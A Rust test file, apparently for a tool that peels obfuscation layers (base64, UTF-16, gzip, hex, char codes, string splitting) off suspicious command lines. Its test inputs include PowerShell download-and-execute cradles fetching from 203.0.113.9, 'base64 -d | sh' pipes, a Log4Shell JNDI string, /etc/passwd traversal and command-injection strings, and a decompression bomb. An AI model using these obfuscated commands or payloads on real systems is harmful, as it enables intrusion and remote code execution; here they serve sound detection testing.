//! What is decoded, and what is left alone.

mod hostile;

use ::base64::Engine as _;

use super::base64::LENIENT;
use super::*;

fn check(text: &str, expected: &[(Encoding, &str)]) {
    let layers = decode_layers(text);
    let found: Vec<_> = layers
        .iter()
        .map(|l| (l.encoding, l.text.as_str()))
        .collect();
    assert_eq!(found, expected, "{text}");
}

#[test]
fn powershell_switches_and_calls() {
    let whoami = "dwBoAG8AYQBtAGkA";
    for switch in ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-ENCOD"] {
        check(
            &format!("powershell {switch} {whoami}."),
            &[(Encoding::Base64Utf16, "whoami")],
        );
    }
    check(
        "[Convert]::FromBase64String('aGVsbG8gd29ybGQ=')",
        &[(Encoding::Base64Utf8, "hello world")],
    );
}

fn base64(text: &str) -> String {
    LENIENT.encode(text)
}

fn utf16(text: &str) -> String {
    LENIENT.encode(
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>(),
    )
}

#[test]
fn base64_after_a_mark() {
    let expected = [(Encoding::Base64Utf8, "id > /tmp/out")];
    let data = base64("id > /tmp/out");
    for (before, after) in [
        ("FromBase64String('", "')"),
        ("FromBase64String(''", "'')"),
        ("FromBase64String(\"\"", "\"\")"),
        (r#"FromBase64String(\""#, r#"\")"#),
        (r#"{"c":"FromBase64String(\""#, r#"\")"}"#),
        (r#"{"c":"{\"d\":\"FromBase64String(\\\""#, r#"\\\")\"}"}"#),
        (r"FromBase64String(\u0027", r"\u0027)"),
        ("FromBase64String(&quot;", "&quot;)"),
        ("FromBase64String(&apos;", "&apos;)"),
        ("[Convert]::frombase64string( \"", "\" )"),
        ("base64 -d <<< ", ""),
        ("base64 --decode <<<'", "'"),
        ("echo ", " | base64 -d | sh"),
        ("echo -n '", "'|base64 --decode"),
        ("bash -c {echo,", "}|{base64,-d}|{bash,-i}"),
        ("echo ", " | openssl enc -base64 -d"),
        ("eval(atob('", "'))"),
        ("exec(base64.b64decode(b'", "'))"),
        ("data:text/html;base64,", ""),
        ("${jndi:ldap://203.0.113.9/Basic/Command/Base64/", "}"),
    ] {
        check(&format!("{before}{data}{after}"), &expected);
    }
    let whoami = [(Encoding::Base64Utf16, "whoami")];
    check(r#"["powershell","-enc","dwBoAG8AYQBtAGkA"]"#, &whoami);
    check("powershell -en:dwBoAG8AYQBtAGkA", &whoami);
    check("powershell -Encoding dwBoAG8AYQBtAGkA", &[]);
}

#[test]
fn base64_that_nothing_marks() {
    let text = "Invoke-WebRequest http://203.0.113.9/a -OutFile b";
    let plain = [(Encoding::Base64Utf8, text)];
    check(&base64(text), &plain);
    check(&format!("value: {}, next", base64(text)), &plain);
    check(
        &format!("<data>{}</data>", base64(text).trim_end_matches('=')),
        &plain,
    );
    check(
        &utf16("whoami /all"),
        &[(Encoding::Base64Utf16, "whoami /all")],
    );
    let wrapped: Vec<String> = base64(text)
        .as_bytes()
        .chunks(40)
        .map(|line| String::from_utf8_lossy(line).into())
        .collect();
    check(&wrapped.join("\n"), &plain);
    check(
        &base64("see what? the first of them>>>")
            .replace('+', "-")
            .replace('/', "_"),
        &[(Encoding::Base64Utf8, "see what? the first of them>>>")],
    );
    check("AppleWebKit/QXBwbGVXZWJLaXQgaXMgYSBuYW1lIG9ubHk=", &[]);
    let marked = base64("download it from here, then run it");
    for secret in [
        format!("Authorization: Basic {marked}"),
        format!("password={marked}"),
        format!(r#"{{"data": {{"api_key": "{marked}"}}}}"#),
        format!("eyJhbGciOiJIUzI1NiJ9.{marked}.c2lnbmF0dXJl"),
    ] {
        check(&secret, &[]);
    }
}

#[test]
fn compressed_data_are_unpacked() {
    use flate2::Compression;
    use flate2::read::{DeflateEncoder, GzEncoder, ZlibEncoder};
    use std::io::Read;

    let text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
    let packed = |mut encoder: Box<dyn Read>| {
        let mut bytes = Vec::new();
        encoder.read_to_end(&mut bytes).unwrap();
        bytes
    };
    let gzip = packed(Box::new(GzEncoder::new(
        text.as_bytes(),
        Compression::best(),
    )));
    let zlib = packed(Box::new(ZlibEncoder::new(
        text.as_bytes(),
        Compression::best(),
    )));
    let raw = packed(Box::new(DeflateEncoder::new(
        text.as_bytes(),
        Compression::best(),
    )));
    let gunzipped = [(Encoding::Gzip, text)];
    let inflated = [(Encoding::Deflate, text)];
    check(
        &format!("FromBase64String('{}')", LENIENT.encode(&gzip)),
        &gunzipped,
    );
    check(&LENIENT.encode(&gzip), &gunzipped);
    let digits: Vec<String> = gzip.iter().map(|byte| format!("{byte:02x}")).collect();
    check(&format!("0x{}", digits.concat()), &gunzipped);
    check(
        &format!("FromBase64String('{}')", LENIENT.encode(&zlib)),
        &inflated,
    );
    check(
        &format!(
            "DeflateStream([Convert]::FromBase64String('{}'))",
            LENIENT.encode(&raw)
        ),
        &inflated,
    );

    let command = utf16(&format!(
        "$s=[Convert]::FromBase64String(\"{}\")",
        LENIENT.encode(&gzip)
    ));
    let layers = decode_layers(&format!("powershell -w hidden -e {command}"));
    assert_eq!(layers.last().map(|layer| layer.text.as_str()), Some(text));

    let bomb = packed(Box::new(GzEncoder::new(
        std::io::repeat(b'a').take(50_000_000),
        Compression::best(),
    )));
    let layers = decode_layers(&format!("FromBase64String('{}')", LENIENT.encode(&bomb)));
    assert_eq!(
        layers.iter().map(|layer| layer.text.len()).max(),
        Some(MAX_LAYER_BYTES)
    );
}

#[test]
fn hexadecimal() {
    let text = [(Encoding::Hex, "whoami /priv > out")];
    check("x=77686f616d69202f70726976203e206f7574", &text);
    check("x=0x77686F616D69202F70726976203E206F7574;", &text);
    check("proctitle=77686F616D69002F70726976003E006F7574", &text);
    check(
        "0x770068006f0061006d0069002000",
        &[(Encoding::Hex, "whoami ")],
    );
    check("EXEC(0x77686f616d69)", &[(Encoding::Hex, "whoami")]);
    check(
        "[byte[]](0x77,0x68,0x6f,0x61,0x6d,0x69)",
        &[(Encoding::Hex, "whoami")],
    );
    check(
        "0x77, 0x68, 0x6f, 0x61, 0x6d, 0x69",
        &[(Encoding::Hex, "whoami")],
    );
    check(
        r#"x = "\x77\x68\x6f\x61\x6d\x69""#,
        &[(Encoding::Escapes, "whoami")],
    );
    check(
        r#"{"a":"\\x77\\x68\\x6f\\x61\\x6d\\x69"}"#,
        &[(Encoding::Escapes, "whoami")],
    );
    check(
        r"\u0077\u0068\u006f\u0061\u006d\u0069",
        &[(Encoding::Escapes, "whoami")],
    );
    check(
        "&#119;&#104;&#111;&#x61;&#109;&#105;",
        &[(Encoding::Escapes, "whoami")],
    );
    check(r"\xfc\x48\x83\xe4\xf0\xe8\xc0\x00", &[]);
}

#[test]
fn percent_encoding() {
    check(
        "GET /a%2F..%2F..%2Fetc%2Fpasswd x",
        &[(Encoding::Url, "/a/../../etc/passwd")],
    );
    check(
        "?c=cat+%2Fetc%2Fpasswd%3Bid",
        &[(Encoding::Url, "?c=cat /etc/passwd;id")],
    );
    check(
        "%u0077%u0068%u006f%u0061%u006d%u0069",
        &[(Encoding::Url, "whoami")],
    );
    check("/%C3%A9t%C3%A9%2Fa", &[(Encoding::Url, "/été/a")]);
    check("/wiki/A%E2%80%93B", &[]);
    check(
        "/%252e%252e%252fetc",
        &[(Encoding::Url, "/%2e%2e%2fetc"), (Encoding::Url, "/../etc")],
    );
    check("/a%20b%20c%20d %APPDATA% %%1538 %%1541 50%20%20%", &[]);
    check("%TEMP%\\%DATE%\\%CACHE%\\%ADDR%", &[]);
}

#[test]
fn character_codes() {
    let iex = [(Encoding::CharCodes, "IEX")];
    check("$a=[char]73+[char]69+[char]88", &iex);
    check("&([char](0x49) + [CHAR]0x45+[string][char]88)", &iex);
    check("Execute chr(73)&chr(69) & ChrW(88)", &iex);
    check("-join [char[]](73,69,88)", &iex);
    check("[char[]]@(73, 69, 88) -join ''", &iex);
    check("(73,69,88 | % {[char]$_}) -join ''", &iex);
    check(
        "('73 69 88'.split(' ')|ForEach-Object{[char][int]$_})",
        &iex,
    );
    check("eval(String.fromCharCode(73,69,0x58))", &iex);
    check("'I'+[char]69+[char]88", &iex);
    check("$rtlo = [char]0x202E", &[]);
    check("Run chr(34) & \"C:\\a b\\c.exe\" & chr(34)", &[]);
    check("ports 80,443,8080 and char 12, 13, 14", &[]);
}

#[test]
fn codes_within_a_torn_command_are_spelled_out_too() {
    check(
        "x = \"po\" & \"wer\" & \"shell\" & y & Chr(105) & Chr(100)",
        &[
            (Encoding::Concatenation, "x = \"powershell\" & y & 'id'"),
            (Encoding::CharCodes, "id"),
        ],
    );
}

fn rewritten(text: &str, expected: &str) {
    check(text, &[(Encoding::Concatenation, expected)]);
}

#[test]
fn torn_commands_are_put_together() {
    rewritten("&('IE'+'X') $a", "&('IEX') $a");
    rewritten(
        r#"{"c":"x = \"po\"&\"wer\" & \"shell\"","d":"e"}"#,
        "x = \"powershell\"",
    );
    rewritten("('Down','load','String') -join ''", "'DownloadString'");
    rewritten("-join('i','ex')", "'iex'");
    rewritten("&('XEI'[-1..-3] -join '') $x", "&('IEX') $x");
    rewritten("StrReverse(\"llehsrewop\")", "'powershell'");
    rewritten("'llehsrewop'[::-1]", "'powershell'");
    rewritten("& (\"{1}{0}\" -f 'X','IE')", "& (\"IEX\")");
    rewritten("(\"{2}{0}{1}\" -f 'et.W','ebCli','N')", "(\"Net.WebCli\")");
    rewritten("Invoke-Exp`ression $a", "Invoke-Expression $a");
    rewritten("New-Object Ne`T.W`ebC`lient", "New-Object NeT.WebClient");
    rewritten("I`nv`o`ke-Ex`pression $a", "Invoke-Expression $a");
    rewritten("CommandLine: IE`X $a", "IEX $a");
    rewritten("cmd /c p^o^w^e^r^shell -^n^o^p", "cmd /c powershell -nop");
    rewritten("p\"o\"w\"e\"rshell -c id", "powershell -c id");
    rewritten("c''url http://a", "curl http://a");
    rewritten("Host: a CommandLine: wh^oami /all User: b", "whoami /all");
    rewritten(
        "cmdline=\"p^ower^shell -c x\" user=\"b\"",
        "powershell -c x",
    );
}

#[test]
fn what_only_looks_torn_is_left_alone() {
    for text in [
        "\"C:\\a.exe\" & \"C:\\b.exe\" & \"C:\\c.exe\"",
        "$n = $a.Name + \"[\" + $b + \"]\" + \" : \" + $c",
        "'first part of it, ' + 'second part'",
        "\"Password1`n1q2w3e4r`nPassword!\".split(\"`n\")",
        "use `curl` and `wget`, then `whoami`",
        "see `src/http.rs`. Or `src/curl.rs`, `http.get`s",
        "TMP=`ps | grep x`; which=`which openssl`",
        "select `db`.`table` from `x`",
        "grep -E '^[a-z]^CN' | sed 's,^,auth,'",
        "a^2 + b^2 = c^2, x^y",
        "it's the user's don't",
        r#"{"cmd":"curl","args":["http","https"]}"#,
        "(1, 2, 3) -join '' ",
        "\"{0}: {1}\" -f 'name','value'",
    ] {
        check(text, &[]);
    }
}

#[test]
fn names_hashes_and_paths_are_left_alone() {
    for text in [
        "D21BBC50DCC169D7B4D0F01962793154",
        "9d25e61ec1527e2a69d7c2a4e3fe2fe15890710c198a66a9f25d99fdf6c7b956",
        "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
        "SystemFileNameOutsideSystem32AndElsewhere",
        "AppXypsaf9f1qserqevf0sws76dx4k9a5206",
        "S-1-5-21-1004336348-1177238915-682003330-1134",
        "uZa/BYCtkItlvesz+yNo6OFvuLQKaJekHCctqyJiHmhr",
        "abcdefghijklmnopqrstuvwxyz123456",
        "AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAA",
        "{6ba7b810-9dad-11d1-80b4-00c04fd430c8}",
        "20220725213300202207252133002022",
        "0x00007ff612345678 0x1fffff 0xdeadbeef",
        "grep -e password -e something",
        "X-aws-ec2-metadata-token-ttl-seconds",
    ] {
        check(text, &[]);
    }
}

#[test]
fn encodings_nest() {
    let inner = format!("powershell -enc {}", utf16("&('IE'+'X') $a"));
    let alert = format!(
        "{{\"u\":\"/run?c={}\"}}",
        inner
            .replace(' ', "%20")
            .replace('=', "%3D")
            .replace('-', "%2D")
    );
    check(
        &alert,
        &[
            (Encoding::Url, &format!("/run?c={inner}")),
            (Encoding::Base64Utf16, "&('IE'+'X') $a"),
            (Encoding::Concatenation, "&('IEX') $a"),
        ],
    );
}

#[test]
fn a_text_is_reported_once() {
    let data = base64("id > /tmp/out");
    let text =
        format!("echo {data} | base64 -d; atob('{data}'); 'c'+'url'; FromBase64String('{data}')");
    check(
        &text,
        &[
            (
                Encoding::Concatenation,
                &text.replace("'c'+'url'", "'curl'"),
            ),
            (Encoding::Base64Utf8, "id > /tmp/out"),
        ],
    );
}

#[test]
fn what_is_not_text_is_left_alone() {
    check("powershell -enc AAECAwQFBgc=", &[]);
    check("ls -e something", &[]);
    check("no encoding here", &[]);
}
